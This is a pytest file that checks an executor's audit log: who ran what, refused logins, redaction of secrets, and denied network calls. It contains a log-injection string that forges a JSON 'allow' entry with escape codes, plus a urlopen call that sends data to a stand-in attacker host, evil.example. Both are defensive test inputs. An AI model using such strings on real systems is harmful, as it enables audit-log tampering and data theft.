"""The audit log, as the daemon and the embedded executor keep it."""

from __future__ import annotations

import hashlib
import json
import re
import stat
from pathlib import Path
from typing import Any

import pytest

from codemode import AuthenticationError, ClientConfig, Codemode, ConfigError
from e2e.conftest import registry_of
from e2e.daemon import KEY, Daemon

HOSTILE = '/etc/x\n\x1b[31m\x9b2J\u202e", "decision": "allow"}\n{"event": "end"}'
CODE = f"""
secret = 'secret value'
try:
    open({HOSTILE!r})
except OSError:
    pass
result = tools['lookup'].run(question='secret question')
"""


def lookup(question: str) -> str:
    return f"secret answer to {question}"


def read(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_a_daemon_says_who_did_what(tmp_path: Path) -> None:
    log = tmp_path / "audit.jsonl"
    with Daemon(tmp_path, {"executor": {"audit": "audit.jsonl"}}) as daemon:
        config = ClientConfig(executor_url=daemon.url, executor_api_key=KEY)
        with Codemode.from_client_config(config, registry=registry_of(lookup=lookup)) as codemode:
            result = codemode.execute(CODE)
        assert result.success and result.violations[0].detail == HOSTILE
        with (
            Codemode.from_client_config(ClientConfig(executor_url=daemon.url, executor_api_key="wrong")) as stranger,
            pytest.raises(AuthenticationError),
        ):
            stranger.execute("1")
        assert daemon.stop() == 0
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    text = log.read_bytes()
    assert re.fullmatch(rb"[\x20-\x7e\n]*", text), text
    assert b"secret" not in text and KEY.encode() not in text and b"wrong" not in text
    lines = read(log)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", line["time"]) for line in lines)
    mine = [line for line in lines if line.get("execution_id") == result.execution_id]
    assert [line["event"] for line in mine] == ["start", "tool_call", "tool_call", "violation", "end"]
    assert {line["principal"] for line in mine} == {"key:" + hashlib.sha256(KEY.encode()).hexdigest()[:8]}
    assert {line["code_sha256"] for line in mine} == {hashlib.sha256(CODE.encode()).hexdigest()}
    assert {line["correlation_id"] for line in mine} == {result.correlation_id}
    assert [line["decision"] for line in mine] == ["allow", "allow", "allow", "deny", None]
    assert [line.get("status") for line in mine[1:3]] == ["called", "ok"]
    assert (mine[3]["reason"], mine[3]["detail"]) == ("unauthorized_path", HOSTILE)
    assert (mine[4]["outcome"], mine[4]["violations"], mine[4]["tool_calls"]) == ("ok", 1, 1)
    refused = [line for line in lines if line["event"] == "refusal"]
    assert refused and {(line["reason"], line["principal"]) for line in refused} == {("unauthenticated", None)}
    assert [lines[0]["event"], lines[-1]["event"]] == ["daemon_start", "daemon_stop"]


def test_an_embedded_executor_keeps_one_too(tmp_path: Path) -> None:
    log = tmp_path / "audit.jsonl"
    for _ in range(2):
        with Codemode.local({"audit": log}) as codemode:
            assert codemode.execute("2 + 2").result == 4
    events = [line["event"] for line in read(log)]
    assert events == ["daemon_start", "start", "end", "daemon_stop"] * 2


def test_a_log_that_cannot_be_written_is_a_config_error(tmp_path: Path) -> None:
    for wrong in (tmp_path / "no" / "where.jsonl", "/dev/full", "stdout"):
        with pytest.raises(ConfigError, match="audit: "), Codemode.local({"audit": wrong}) as codemode:
            codemode.execute("1")


def test_what_the_way_out_refused_is_written_and_nothing_twice(tmp_path: Path) -> None:
    policy = {"network": {"mode": "restricted", "allowed_domains": ["api.example"]}}
    code = "import urllib.request\nurllib.request.urlopen('http://evil.example/secret?of=mine')"
    with Codemode.local({"audit": tmp_path / "audit.jsonl", **policy}) as codemode:
        result = codemode.execute(code)
    (violation,) = [each for each in result.violations if each.kind == "unauthorized_network"]
    assert (violation.source, violation.detail.partition(":")[0]) == ("supervisor", "evil.example")
    _, start, network, end, _ = read(tmp_path / "audit.jsonl")
    assert [start["event"], network["event"], end["event"]] == ["start", "network", "end"]
    said = {key: network[key] for key in ("decision", "reason", "host", "port", "via", "address", "detail")}
    assert said == {
        "decision": "deny", "reason": "not_listed", "host": "evil.example", "port": 80, "via": "http", "address": None,
        "detail": violation.detail,
    }  # fmt: skip
    assert "secret" not in (tmp_path / "audit.jsonl").read_text()


def test_the_documented_lines_are_those_that_are_written(tmp_path: Path) -> None:
    document = Path(__file__).parents[3] / "docs" / "audit.md"
    examples = [json.loads(line) for line in re.findall(r"^\{.*\}$", document.read_text(), re.MULTILINE)]
    keys = {(line["event"], line.get("status") == "called"): list(line) for line in examples}
    test_a_daemon_says_who_did_what(tmp_path)
    written = read(tmp_path / "audit.jsonl")
    other = tmp_path / "other"
    other.mkdir()
    test_what_the_way_out_refused_is_written_and_nothing_twice(other)
    written += read(other / "audit.jsonl")
    assert {line["event"] for line in written} == {event for event, _ in keys} - {"gap"}
    for line in written:
        assert list(line) == keys[line["event"], line.get("status") == "called"], line["event"]
